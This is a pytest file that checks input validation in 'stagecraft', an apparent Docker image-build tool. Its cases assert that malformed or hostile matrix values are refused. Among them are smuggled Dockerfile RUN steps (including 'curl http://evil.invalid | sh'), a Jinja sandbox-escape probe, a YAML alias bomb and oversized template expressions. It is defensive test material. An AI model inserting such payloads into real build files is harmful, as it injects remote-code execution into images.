"""Bad input: every case is answered by one line per problem, naming where (file:line,
the option or the tag) and what to do, with exit status 2 and before any engine call.

DOCKER_HOST points at nothing during these tests: a case that reached the engine would
answer "no Docker engine answers" instead of its own message and fail.
"""

from __future__ import annotations

import re
import shutil

import pytest

from stagecraft.cli import main
from stagecraft.errors import InputError
from stagecraft.expand import expand
from stagecraft.matrix import load_matrix
from tests.conftest import ROOT
from tests.unit.minimal_matrix import MINIMAL

# (id, text to replace in MINIMAL, replacement, expected fragment, and a text on the line
# the error must point at, or None when only the presence of a line number is checked)
MATRIX_CASES = [
    ("yaml-syntax", "  runtime:\n", "  runtime\n    :x: [\n", "invalid YAML", None),
    ("duplicate-key", "repository: example/fw\n", "repository: example/fw\nrepository: x/y\n",
     "duplicate key 'repository'", "repository: x/y"),
    ("schema-version", "schema: 1", "schema: 2", "must be 1, not 2", "schema: 2"),
    ("unknown-top-key", "source: https", "sauce: https", "unknown key ('sauce' was unexpected)", "schema: 1"),
    ("missing-images", "images:\n  - name: six", "imagez:\n  - name: six", "'images' is a required property", "schema: 1"),
    ("missing-template", "template: base.Dockerfile.j2", "template: bsae.Dockerfile.j2",
     "templates/bsae.Dockerfile.j2 does not exist", "bsae"),
    ("missing-suite", "tests: [tests/image/test_base.py]", "tests: [tests/image/test_bsae.py]",
     "tests/image/test_bsae.py does not exist", "test_bsae"),
    ("chain-unknown-stage", "chain: [base, runtime]", "chain: [base, runtme]",
     "stage 'runtme' is not defined under stages", "runtme"),
    ("axis-unknown-entry", "framework: [six-1, six-2]", "framework: [six-1, six-3]",
     "framework 'six-3' is not under components.framework; did you mean six-2 or six-1", "six-3"),
    ("axis-unknown-table", "      framework: [six-1, six-2]\n",
     "      framework: [six-1, six-2]\n      cuda: [cu118]\n", "axis 'cuda' names no component table", "cuda: [cu118]"),
    ("uses-missing-axis", "    uses: [framework]\n", "    uses: [framework, base, accel]\n",
     "stage 'runtime' uses component table 'accel', which is not under components", "accel"),
    ("tag-undefined", '{{ framework.version }}-cpu"', '{{ framework.vers }}-cpu"',
     "tag template fails for base=deb12, framework=six-1", "- name: six"),
    ("tag-invalid", '"{{ framework.version }}-cpu"', '"{{ framework.version }}/cpu"',
     "'1.16.0/cpu' is not a valid Docker tag", "- name: six"),
    ("tag-collision", 'aliases: ["{{ framework.version }}"]', 'aliases: ["latest"]',
     "'latest' is claimed by '1.16.0-cpu' too", "- name: six"),
    ("pull-without-section", "source: bootstrap", "source: pull",
     "base 'deb12' has source 'pull' but no 'pull' section", "source: pull"),
    ("bad-constraint", '      build: {python: ["3.11"]}\n',
     '      build: {python: ["3.11"]}\n      constraints: ["numpy>>2"]\n',
     "'numpy>>2' is not of the expected form", "numpy>>2"),
    ("apt-without-why", 'tini: {version: "0.19.*", why: "PID 1"}', 'tini: {version: "0.19.*"}',
     "'why' is a required property", "tini:"),
    ("python-incompatible", 'build: {python: ["3.11"]}', 'build: {python: ["3.12", "3.13"]}',
     "framework-python: six-1 has builds for Python 3.12, 3.13, not 3.11", "- name: six"),
    ("exclude-unknown-axis", "    tag: \"{{", "    exclude: [{distro: deb12}]\n    tag: \"{{",
     "exclude names axis 'distro'", "distro: deb12"),
    ("include-partial", "    tag: \"{{", "    include: [{framework: six-1}]\n    tag: \"{{",
     "include entry lacks axes base", "include:"),
    ("sandboxed-tag", '"{{ framework.version }}-cpu"', '"{{ cycler.__init__.__globals__.os.getcwd() }}-cpu"',
     "tag template fails for base=deb12, framework=six-1", "- name: six"),
    ("tag-type-error", '"{{ framework.version }}-cpu"', '"{{ framework.version + 1 }}-cpu"',
     "tag template fails", "- name: six"),
    ("newline-injection", 'tini: {version: "0.19.*", why: "PID 1"}',
     'tini: {version: "0.19.*", why: "PID 1\\nRUN curl http://evil.invalid | sh"}', "holds U+000A (LINE FEED)", "tini:"),
    ("exclude-everything", "    tag: \"{{", "    exclude: [{base: deb12}]\n    tag: \"{{",
     "produces no image: exclude removes every combination", "- name: six"),
    ("exclude-list-value", "    tag: \"{{", "    exclude: [{framework: [six-1]}]\n    tag: \"{{",
     "is not allowed here", "framework: [six-1]"),
    ("alias-bomb", "schema: 1\n", "schema: 1\n" + "".join(
        f"x{i}: &x{i} [{'1, 1' if i == 0 else f'*x{i - 1}, *x{i - 1}'}]\n" for i in range(30)),
     "expands to more than 100000 values", None),
    ("null-framework", "framework: [six-1, six-2]", "framework: [six-1, null]",
     "axis 'framework' cannot be null", "six-1, null"),
    ("isa-cap-in-env", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     "      kernel_sets: [{name: cpu, device: cpu, env: {ONEDNN_MAX_CPU_ISA: AVX512_CORE}}]\n",
     "kernel_sets.0.env.ONEDNN_MAX_CPU_ISA: a fixed ISA cap is below newer CPUs", "kernel_sets:"),
    ("top-cpu-set-capped", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     "      kernel_sets: [{name: cpu-avx2, device: cpu, isa_cap: avx2}]\n",
     "cpu-avx2 is the image's top CPU kernel set: it must not cap the CPU ISA", "kernel_sets:"),
    ("nvidia-without-kernel-facts", '      device: cpu\n      build: {python: ["3.11"]}\n',
     '      device: nvidia\n      build: {python: ["3.11"]}\n',
     "framework 'six-1' (device nvidia) does not declare build.sass, build.ptx, build.dlopen", "build: {python"),
    ("nvidia-facts-not-a-list", '      device: cpu\n      build: {python: ["3.11"]}\n',
     '      device: nvidia\n      build: {python: ["3.11"], sass: maybe, ptx: [], dlopen: unknown}\n',
     "components.framework.six-1.build.sass: 'maybe' is not allowed here", "build: {python"),
    ("device-string-unknown-field", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     '      device_strings: {cpu: "cpu:{idx}"}\n',
     "framework 'six-1': device_strings.cpu 'cpu:{idx}' names unknown field {idx}; fields: index, count",
     "device_strings:"),
    ("device-string-unknown-family", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     '      device_strings: {tpu: "tpu:{index}"}\n', "'tpu' is not one of", "device_strings:"),
    ("health-budget-zero", "  requirements: [nvidia-ml-py==13.580.82]\n",
     "  requirements: [nvidia-ml-py==13.580.82]\n  health: {budget_s: 0}\n",
     "entrypoint.health.budget_s: 0 is not a positive number", "health:"),
    ("health-budget-text", "  requirements: [nvidia-ml-py==13.580.82]\n",
     "  requirements: [nvidia-ml-py==13.580.82]\n  health: {budget_s: two}\n",
     "entrypoint.health.budget_s: 'two' is not of type 'number'", "health:"),
    ("unknown-isa-cap", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     "      kernel_sets: [{name: a, device: cpu}, {name: b, device: cpu, isa_cap: avx3}]\n",
     "kernel_sets.1.isa_cap: 'avx3' is not one of", "kernel_sets:"),
    # Line separators (issue 13): a YAML escape gives a value any character; YAML and
    # Python split lines at U+2028, so a `why:` became a RUN step. Refused in any field.
    ("u2028-why", 'why: "PID 1"', 'why: "PID 1\\LRUN echo INJECTED > /injected"',
     "components.base.deb12.apt.tini.why: value 'PID 1\\u2028RUN echo INJECTED > /injected' "
     "holds U+2028 (LINE SEPARATOR)", "tini:"),
    ("u2028-raw", 'why: "PID 1"', 'why: "PID 1\u2028RUN echo INJECTED > /injected"',
     "U+2028 (LINE SEPARATOR) in the file", "tini:"),
    ("u2028-constraint", '      build: {python: ["3.11"]}\n',
     '      build: {python: ["3.11"]}\n      constraints: ["six\\u2028==1.16.0"]\n',
     "constraints.0: value 'six\\u2028==1.16.0' holds U+2028", "constraints:"),
    ("nel-source", "source: https://example.invalid/src", 'source: "https://x.invalid\\Nsrc"',
     "source: value 'https://x.invalid\\x85src' holds U+0085 (NEXT LINE)", "source:"),
    ("u2029-key", "    six-2:\n", '    "six-2\\P":\n', "holds U+2029 (PARAGRAPH SEPARATOR)", "six-2\\P"),
    ("vt-tag", '"{{ framework.version }}-cpu"', '"{{ framework.version }}\\v-cpu"',
     "holds U+000B (LINE TABULATION)", "    tag: "),
    ("zero-width-why", 'why: "PID 1"', 'why: "PID\\u200b1"', "holds U+200B (ZERO WIDTH SPACE)", "tini:"),
    ("bidi-override-why", 'why: "PID 1"', 'why: "PID \\u202e1"',
     "holds U+202E (RIGHT-TO-LEFT OVERRIDE)", "tini:"),
    ("nul-escape", 'why: "PID 1"', 'why: "PID\\x001"', "holds U+0000 (NULL)", "tini:"),
    ("nul-byte", "source: https", "source: \x00https", "U+0000 (NULL) in the file", "source:"),
    ("tab-in-value", 'why: "PID 1"', 'why: "PID\\t1"', "holds U+0009 (TAB)", "tini:"),
    # YAML tags and values outside JSON's kinds (issue 13: internal errors before).
    ("vault-tag", "source: https://example.invalid/src", "source: !vault |\n  $ANSIBLE_VAULT;1.1",
     "source: the YAML tag '!vault' is not supported", "source:"),
    ("bad-binary", "source: https://example.invalid/src", "source: !!binary 'not base64!!'",
     "the YAML tag '!!binary' is not supported", "source:"),
    ("set-tag", "    uses: [framework]\n", "    uses: !!set {framework}\n",
     "the YAML tag '!!set' is not supported", "!!set"),
    ("bad-bool", 'why: "PID 1"', 'why: !!bool "maybe"', "'maybe' is not a valid bool", "tini:"),
    ("date-value", 'why: "PID 1"', "why: 2024-01-01", "'2024-01-01' reads as a date; quote it", "tini:"),
    ("nan-value", "source: https://example.invalid/src", "source: .nan", ".nan is not a finite number", "source:"),
    ("recursive-anchor", "schema: 1\n", "schema: 1\nx: &a [1, *a]\n", "a recursive alias", "x: &a"),
    ("recursive-merge", "    six-2:\n      package: six\n",
     "    six-2: &s2\n      <<: *s2\n      package: six\n", "a recursive alias", "&s2"),
    ("include-null-framework", "    tag: \"{{", "    include: [{framework: null, base: deb12}]\n    tag: \"{{",
     "include entry has a null framework", "include:"),
    # Tag expressions are bounded (issue 13: nested range loops hung --list).
    ("tag-nested-loops", '"{{ framework.version }}-cpu"',
     '"{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}x"',
     "tag expression: for is not allowed", "- name: six"),
    ("tag-set", '"{{ framework.version }}-cpu"', '"{% set x = 1 %}x"',
     "tag expression: assign is not allowed", "- name: six"),
    ("tag-huge-range", '"{{ framework.version }}-cpu"', '"{{ range(10**6) | join }}"',
     "tag template fails", "- name: six"),
    ("tag-huge-power", '"{{ framework.version }}-cpu"', '"{{ 10 ** 100000 }}"', "is too large", "- name: six"),
    ("tag-huge-repeat", '"{{ framework.version }}-cpu"', '"{{ framework.version * 10**9 }}"',
     "is too large", "- name: six"),
    ("tag-center", '"{{ framework.version }}-cpu"', '"{{ framework.version | center(10**9) }}"',
     "No filter named 'center'", "- name: six"),
    ("tag-format", '"{{ framework.version }}-cpu"', '"{{ \'%999999999d\' % 1 }}"',
     "string formatting with % is not supported", "- name: six"),
    ("tag-lipsum", '"{{ framework.version }}-cpu"', '"{{ lipsum(10**9) }}"', "'lipsum' is undefined", "- name: six"),
    ("tag-method", '"{{ framework.version }}-cpu"', '"{{ framework.version.ljust(10**9) }}"',
     "calling 'ljust' is not supported", "- name: six"),
    # Checked, not silently accepted (issue 13).
    ("two-groups-one-name", "    aliases: [\"{{ framework.version }}\"]\n",
     "    aliases: [\"{{ framework.version }}\"]\n  - chain: [base, runtime]\n    name: six\n"
     "    axes: {base: [deb12], framework: [six-1]}\n    tag: other\n",
     "image group 'six' is defined twice (first at matrix.yaml:43)", "    name: six"),
    ("two-merge-keys", "    six-2:\n      package: six\n",
     "    six-2:\n      <<: {device: cpu}\n      <<: {import: six}\n      package: six\n",
     "a second '<<' merge key in one mapping", "<<: {import: six}"),
    ("exclude-matches-nothing", "      framework: [six-1, six-2]\n    tag: \"{{",
     "      framework: [six-1]\n    exclude: [{base: deb12, framework: six-1}, {framework: six-2}]\n    tag: \"{{",
     "exclude entry framework=six-2 matches no combination", "exclude:"),
    ("unknown-platform", "    tag: \"{{", "    platforms: [linux/amd64, linux/mips]\n    tag: \"{{",
     "image group 'six': unknown platform 'linux/mips'; one of: linux/amd64, linux/arm64", "linux/mips"),
    ("platform-not-os-arch", "    tag: \"{{", "    platforms: [arm64-linux]\n    tag: \"{{",
     "'arm64-linux' is not of the expected form", "arm64-linux"),
    # An NVIDIA build must name the binaries its SASS/PTX is measured from, and declare
    # the lists the measurement is checked against.
    ("nvidia-without-fatbins", '      import: six\n      device: cpu\n      build: {python: ["3.11"]}',
     '      import: six\n      device: nvidia\n      build: {python: ["3.11"]}',
     "framework 'six-1' (device nvidia) does not declare build.sass, build.ptx, build.dlopen, build.fatbins",
     'build: {python: ["3.11"]}'),
    ("fatbins-without-cuobjdump", 'build: {python: ["3.11"]}',
     'build: {python: ["3.11"], fatbins: [six/libsix.so], sass: ["8.0"], ptx: []}',
     "names build.fatbins to measure, but build_tools.cuobjdump is not set", "fatbins:"),
    # Issue 22: chains out of the order the stages build on each other (FROM runtime AS
    # base; a runtime on the bare OS), found from each stage's parents.
    ("chain-runtime-base", "chain: [base, runtime]", "chain: [runtime, base]",
     "image group 'six': the chain starts with stage 'runtime', which is built on 'base', "
     "not on the OS base image; start with 'base'", "chain: [runtime, base]"),
    ("chain-runtime-only", "chain: [base, runtime]", "chain: [runtime]",
     "the chain starts with stage 'runtime', which is built on 'base'", "chain: [runtime]"),
    ("stage-without-parents-above-base", "    parents: [base]\n", "",
     "stage 'runtime' is built on the OS base image (it names no parents), but the chain puts it on 'base'",
     "chain: [base, runtime]"),
    # Found by test_fuzz (a number where the list goes): the loader crashed with a TypeError.
    ("parents-not-a-list", "    parents: [base]\n", "    parents: 0\n", "0 is not of type 'array'", "parents: 0"),
    ("parent-undefined", "    parents: [base]\n", "    parents: [bsae]\n",
     "stage 'runtime' names parent 'bsae', which is not defined under stages", "parents: [bsae]"),
    ("parent-itself", "    parents: [base]\n", "    parents: [runtime]\n",
     "stages build on each other in a circle: runtime on runtime", "parents: [runtime]"),
    ("parents-circle", "    tests: [tests/image/test_base.py]\n",
     "    tests: [tests/image/test_base.py]\n    parents: [runtime]\n",
     "stages build on each other in a circle", None),
    ("parents-not-a-list", "    parents: [base]\n", "    parents: base\n",
     "stages.runtime.parents: 'base' is not of type 'array'", "parents: base"),
    ("parents-twice", "    parents: [base]\n", "    parents: [base, base]\n",
     "breaks uniqueItems", "parents: [base, base]"),
    ("parents-empty-name", "    parents: [base]\n", "    parents: ['']\n",
     "is not of the expected form", "parents: ['']"),
    ("stage-over-the-wrong-parent", "  runtime:\n    template: runtime.Dockerfile.j2\n    parents: [base]\n",
     "  extra:\n    template: base.Dockerfile.j2\n    parents: [base]\n"
     "  runtime:\n    template: runtime.Dockerfile.j2\n    parents: [extra]\n",
     "stage 'runtime' is built on 'extra', but the chain puts it on 'base'", "chain: [base, runtime]"),
    ("empty-parents-above-base", "    parents: [base]\n", "    parents: []\n",
     "stage 'runtime' is built on the OS base image (it names no parents), but the chain puts it on 'base'",
     "chain: [base, runtime]"),
    # Requirement sets pip could never satisfy, refused at load at the constraint's line.
    ("constraints-two-pins", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [numpy==1.0, numpy==2.0]\n",
     "framework 'six-1': constraint 'numpy==2.0' conflicts with constraint 'numpy==1.0': "
     "no version of numpy satisfies both", "constraints:"),
    ("constraint-below-own-pin", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [\"six<1.16\"]\n",
     "constraint 'six<1.16' conflicts with the framework's own pin 'six==1.16.0'", "constraints:"),
    ("constraint-other-pin", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [six==1.15.0]\n",
     "conflicts with the framework's own pin 'six==1.16.0'", "constraints:"),
    ("constraint-excludes-pin", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [\"six!=1.16.0\"]\n",
     "constraint 'six!=1.16.0' conflicts with the framework's own pin", "constraints:"),
    ("constraint-other-spelling", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [Six==1.15.0]\n",
     "no version of six satisfies both", "constraints:"),
    ("constraint-wildcard", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [six==1.15.*]\n",
     "conflicts with the framework's own pin", "constraints:"),
    ("constraint-compatible-release", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [six~=1.15.0]\n",
     "conflicts with the framework's own pin", "constraints:"),
    ("constraint-with-extras", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [\"six[test]==1.15.0\"]\n",
     "conflicts with the framework's own pin", "constraints:"),
    ("constraint-three-way", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [\"numpy>=2\", \"numpy<3\", numpy==1.26.4]\n",
     "constraint 'numpy==1.26.4' conflicts with constraint 'numpy>=2'", "constraints:"),
    ("constraint-block-list-line", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints:\n        - numpy==1.0\n        - numpy==2.0\n",
     "constraint 'numpy==2.0' conflicts with constraint 'numpy==1.0'", "- numpy==2.0"),
    ("constraint-against-entrypoint", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [nvidia-ml-py==12.535.0]\n",
     "conflicts with entrypoint requirement 'nvidia-ml-py==13.580.82'", "constraints:"),
    ("entrypoint-two-pins", "requirements: [nvidia-ml-py==13.580.82]",
     "requirements: [nvidia-ml-py==13.580.82, nvidia_ml_py==12.535.0]",
     "entrypoint requirement 'nvidia_ml_py==12.535.0' conflicts with entrypoint requirement "
     "'nvidia-ml-py==13.580.82'", "requirements:"),
    ("second-framework-conflict", "      version: \"1.17.0\"\n",
     "      version: \"1.17.0\"\n      constraints: [\"six<1.17\"]\n",
     "framework 'six-2': constraint 'six<1.17' conflicts with the framework's own pin 'six==1.17.0'",
     "constraints:"),
    ("constraint-not-pep-508", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n' + "      constraints: [numpy==1.*.2]\n",
     "'numpy==1.*.2' is not a valid requirement", "constraints:"),
]

CLI_CASES = [
    ("unknown-tag", ["--tag", "9.9.9-gpu"], "--tag 9.9.9-gpu: no such tag or alias"),
    ("close-tag", ["--tag", "1.16.0-cpx"], "closest: 1.16.0-cpu"),
    ("ambiguous-prefix", ["--tag", "1.1"], "ambiguous: matches 1.16.0-cpu, 1.17.0-cpu"),
    ("unknown-option", ["--frobnicate"], "unrecognized arguments: --frobnicate"),
    ("bad-jobs", ["--tag", "1.16.0-cpu", "--jobs", "0"], "--jobs 0: must be at least 1"),
    ("jobs-not-int", ["--tag", "1.16.0-cpu", "--jobs", "two"], "invalid int value: 'two'"),
    ("missing-ca-bundle", ["--tag", "1.16.0-cpu", "--ca-bundle", "/nonexistent/ca.pem"],
     "--ca-bundle /nonexistent/ca.pem: no readable file there"),
    ("render-two", ["render", "--tag", "1.16.0-cpu", "--tag", "1.17.0-cpu"], "render takes exactly one tag"),
    ("no-tag", [], "no image chosen; pass --tag TAG"),
    ("bad-base-source", ["--tag", "1.16.0-cpu", "--base-source", "ftp"], "invalid choice: 'ftp'"),
    ("unknown-command", ["publish-everything"], "invalid choice: 'publish-everything'"),
    ("missing-matrix", ["--matrix", "nope.yaml", "--list"], "nope.yaml: file not found"),
    ("bad-repository", ["--tag", "1.16.0-cpu", "--repository", "Team/X:y"], "--repository Team/X:y: not a valid repository name"),
    ("bad-cache-spec", ["--tag", "1.16.0-cpu", "--cache-to", "type=s3,bucket=x"], "not a cache location"),
    ("command-after-options", ["--all", "plan"], "`plan` must come before its options"),
    ("option-of-another-command", ["--tag", "1.16.0-cpu", "--format", "github"],
     "unrecognized arguments: --format"),
    ("unknown-platform-option", ["--tag", "1.16.0-cpu", "--platform", "linux/mips"],
     "--platform linux/mips: unknown platform; one of: linux/amd64, linux/arm64"),
    ("platform-the-image-lacks", ["--tag", "1.16.0-cpu", "--platform", "linux/s390x"],
     "--platform linux/s390x: 1.16.0-cpu is built for"),
    ("unknown-stage", ["--tag", "1.16.0-cpu", "--stage", "cuda"],
     "--stage cuda: 1.16.0-cpu has no stage 'cuda' (its chain: base > runtime)"),
]


@pytest.fixture(autouse=True)
def _no_engine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOCKER_HOST", "tcp://127.0.0.1:9")


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse
        code = exc.code
    err = capsys.readouterr().err.strip().splitlines()
    return code, err


@pytest.mark.parametrize("case", MATRIX_CASES, ids=[c[0] for c in MATRIX_CASES])
def test_bad_matrix(case, project, capsys, monkeypatch):
    name, old, new, fragment, marker = case
    assert old in MINIMAL, f"{name}: the case no longer applies to MINIMAL"
    text = MINIMAL.replace(old, new, 1)
    line = None
    if marker is not None:
        line = next(i for i, ln in enumerate(text.splitlines(), 1) if marker in ln)
    path = project(text)
    monkeypatch.chdir(path.parent)
    code, err = _run(["--list"], capsys)
    assert code == 2, f"{name}: exit {code}, stderr {err}"
    hits = [e for e in err if fragment in e]
    assert hits, f"{name}: no line with {fragment!r} in {err}"
    assert all(e.startswith("error: matrix.yaml") for e in err), f"{name}: {err}"
    if line is not None:
        assert hits[0].startswith(f"error: matrix.yaml:{line}:"), f"{name}: {hits[0]}"
    else:
        assert re.match(r"error: matrix\.yaml:\d+:", hits[0]), f"{name}: {hits[0]}"


@pytest.mark.parametrize("case", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_bad_command_line(case, project, capsys, monkeypatch):
    name, argv, fragment = case
    path = project(MINIMAL)
    monkeypatch.chdir(path.parent)
    code, err = _run(argv, capsys)
    assert code == 2, f"{name}: exit {code}, stderr {err}"
    assert len(err) == 1, f"{name}: expected one line, got {err}"
    assert fragment in err[0], f"{name}: {err[0]!r} lacks {fragment!r}"


def test_every_problem_is_reported_at_once(project, capsys, monkeypatch):
    text = (MINIMAL.replace("template: base.Dockerfile.j2", "template: nope.j2")
            .replace("framework: [six-1, six-2]", "framework: [six-1, six-9]"))
    monkeypatch.chdir(project(text).parent)
    code, err = _run(["--list"], capsys)
    assert code == 2
    assert any("nope.j2" in e for e in err) and any("six-9" in e for e in err), err


def test_corpus_size():
    assert len(MATRIX_CASES) + len(CLI_CASES) >= 15


def test_every_phase_is_reported_at_once(project, capsys, monkeypatch):
    # A schema problem, a reference problem and a compatibility rule (checked on the
    # combinations) in one run, as the README promises.
    text = (MINIMAL.replace("schema: 1", "schema: 2")
            .replace("template: base.Dockerfile.j2", "template: nope.j2")
            .replace('build: {python: ["3.11"]}', 'build: {python: ["3.12"]}'))
    monkeypatch.chdir(project(text).parent)
    code, err = _run(["--list"], capsys)
    assert code == 2, err
    assert [e.split(":")[2] for e in err] == ["1", "8", "43"], err
    assert "schema: must be 1, not 2" in err[0]
    assert "templates/nope.j2 does not exist" in err[1]
    assert "framework-python: six-1 has builds for Python 3.12, not 3.11" in err[2]


# Every character of the unsafe class (safetext): each one Python's str.splitlines breaks
# at, the rest of the C0/C1 controls, format characters, a surrogate.
UNSAFE = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
          "\x00", "\t", "\x1b", "\x7f", "\x9b", "\u200b", "\u200e", "\u202e", "\u2066",
          "\ufeff", "\U000e0001", "\ud800"]
# Fields of every kind a string reaches: a comment, a shell word, a label, a tag, a name,
# free text the schema does not shape, a key.
FIELDS = [
    ('why: "PID 1"', 'why: "PID{c}1"'),
    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"]}\n      constraints: ["six{c}==1.16.0"]'),
    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"], source: "a{c}b"}'),
    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"]}\n      requires: {cuda: "11{c}.8"}'),
    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"]}\n      kernel_sets: [{name: cpu, device: cpu, description: "a{c}b"}]'),
    ("source: https://example.invalid/src", 'source: "https://example.invalid/{c}"'),
    ("source: https://example.invalid/src", 'source: x\nvendor: "Soci\\u00e9t\\u00e9{c}"'),
    ("[nvidia-ml-py==13.580.82]", '["nvidia-ml-py==13.580.82{c}"]'),
    ('"{{ framework.version }}-cpu"', '"{{ framework.version }}{c}-cpu"'),
    ('aliases: ["{{ framework.version }}"]', 'aliases: ["{{ framework.version }}{c}"]'),
    ("    six-2:\n", '    "six-2{c}":\n'),
    ("    template: base.Dockerfile.j2\n", "    template: base.Dockerfile.j2\n    description: \"a{c}b\"\n"),
]


def _yaml_escape(c: str) -> str:
    return {"\n": "\\n", "\t": "\\t", "\r": "\\r"}.get(c, f"\\u{ord(c):04x}" if ord(c) < 0x10000 else f"\\U{ord(c):08x}")


@pytest.mark.parametrize("field", FIELDS, ids=[f[1].split(":")[0].strip(' -"\n') for f in FIELDS])
def test_no_unsafe_character_passes_in_any_field(field, project):
    old, new = field
    assert old in MINIMAL
    for c in UNSAFE:
        text = MINIMAL.replace(old, new.replace("{c}", _yaml_escape(c)), 1)
        with pytest.raises(InputError) as exc:
            load_matrix(project(text))
        lines = [p.line() for p in exc.value.problems]
        assert any(f"holds U+{ord(c):04X}" in ln for ln in lines), (repr(c), lines)
        assert all(re.search(r"matrix\.yaml:\d+: ", ln) for ln in lines), lines
        assert all(ln == ln.strip() and not set(ln) & set(UNSAFE) for ln in lines), lines


def test_the_renderer_refuses_what_the_loader_would(project):
    """A matrix made in code skips the loader: the renderer's own guard refuses a value
    that would leave its line, so no RUN step can be injected this way either."""
    from stagecraft.render import render_stages

    matrix = load_matrix(project(MINIMAL))
    spec = expand(matrix)[0]
    spec.base["apt"]["tini"]["why"] = "PID 1\u2028RUN echo INJECTED > /injected"
    with pytest.raises(InputError, match=r"base\.apt\.tini\.why: the value .* holds U\+2028"):
        render_stages(matrix, spec)
    spec.base["apt"]["tini"]["why"] = "PID 1"
    text = "".join(s.text for s in render_stages(matrix, spec))
    assert "/injected" not in text and text.split("\n") == text.splitlines() + [""]


def test_a_huge_matrix_is_refused_before_parsing(project, capsys, monkeypatch):
    path = project(MINIMAL + "#" * (1024 * 1024))
    monkeypatch.chdir(path.parent)
    code, err = _run(["--list"], capsys)
    assert code == 2 and err == ["error: matrix.yaml: larger than 1024 KiB; a matrix is far "
                                 "smaller; check that this is the right file"], err


def test_many_values_are_not_blamed_on_aliases(project, capsys, monkeypatch):
    import stagecraft.yamlsrc

    monkeypatch.setattr(stagecraft.yamlsrc, "MAX_VALUES", 1000)
    path = project(MINIMAL.replace("schema: 1\n", "schema: 1\nx: [" + ", ".join(["1"] * 2000) + "]\n"))
    monkeypatch.chdir(path.parent)
    code, err = _run(["--list"], capsys)
    assert code == 2 and len(err) == 1 and "has more than 1000 values" in err[0], err
    assert "alias" not in err[0], err


@pytest.mark.parametrize("size", [300, 4000, 5000, 200_000])
def test_a_long_value_is_echoed_bounded(size, project, capsys, monkeypatch):
    path = project(MINIMAL.replace('"{{ framework.version }}-cpu"', '"' + "x" * size + '"'))
    monkeypatch.chdir(path.parent)
    code, err = _run(["--list"], capsys)
    assert code == 2 and err, err
    assert all(len(e) < 400 for e in err), [len(e) for e in err]
    expected = ("is not a valid Docker tag" if size <= 1024 else "a tag expression of 4000 "
                "characters (at most 1024)" if size <= 4096 else "is longer than 4096")
    assert any(expected in e for e in err), err


def test_a_copied_path_may_not_lead_outside_the_project(project, tmp_path, capsys, monkeypatch):
    path = project(MINIMAL)
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    shutil.copytree(path.parent / "probes", outside)
    shutil.rmtree(path.parent / "probes")
    (path.parent / "probes").symlink_to(outside)
    monkeypatch.chdir(path.parent)
    code, err = _run(["--list"], capsys)
    assert code == 2, err
    assert err == [f"error: matrix.yaml:14: stage 'runtime': copied path probes is a symbolic "
                   f"link to {outside}, outside the project; copy real files: replace the "
                   "link with what it points to"], err


# The runtime template's `USER 1000` line: cases insert a line just above it.
USER_LINE = next(i for i, ln in enumerate((ROOT / "templates" / "runtime.Dockerfile.j2").read_bytes()
                                          .splitlines(), 1) if ln == b"USER 1000")
TEMPLATE_CASES = [
    # (id, text to replace in runtime.Dockerfile.j2 (bytes), replacement, expected fragment)
    ("type-error", b"{{ framework.version }}", b"{{ framework.version + 1 }}",
     "runtime.Dockerfile.j2:2: stage 'runtime' for 1.16.0-cpu: TypeError: can only concatenate str"),
    ("not-utf8", b"# runtime:", "# runtime: Soci\u00e9t\u00e9".encode("latin-1"),
     "runtime.Dockerfile.j2:2: not UTF-8 text (byte 0xe9); save the template as UTF-8"),
    ("include-missing", b"USER 1000", b'{% include "nope.j2" %}\nUSER 1000',
     f"runtime.Dockerfile.j2:{USER_LINE}: stage 'runtime' for 1.16.0-cpu: template 'nope.j2' not found under templates/"),
    ("syntax", b"USER 1000", b"{% if %}\nUSER 1000", f"runtime.Dockerfile.j2:{USER_LINE}: template syntax error"),
    ("line-separator", b"USER 1000", "# \u2028RUN echo INJECTED\nUSER 1000".encode(),
     "runtime.Dockerfile.j2: stage 'runtime' for 1.16.0-cpu: the rendered text holds U+2028 (LINE SEPARATOR)"),
    ("undefined", b"{{ framework.version }}", b"{{ cuda.cuda }}", "runtime.Dockerfile.j2:2: stage 'runtime' for 1.16.0-cpu: 'cuda' is undefined"),
]


@pytest.mark.parametrize("case", TEMPLATE_CASES, ids=[c[0] for c in TEMPLATE_CASES])
def test_bad_template(case, project, capsys, monkeypatch):
    name, old, new, fragment = case
    path = project(MINIMAL)
    template = path.parent / "templates" / "runtime.Dockerfile.j2"
    assert old in template.read_bytes()
    template.write_bytes(template.read_bytes().replace(old, new, 1))
    monkeypatch.chdir(path.parent)
    code, err = _run(["render", "1.16.0-cpu"], capsys)
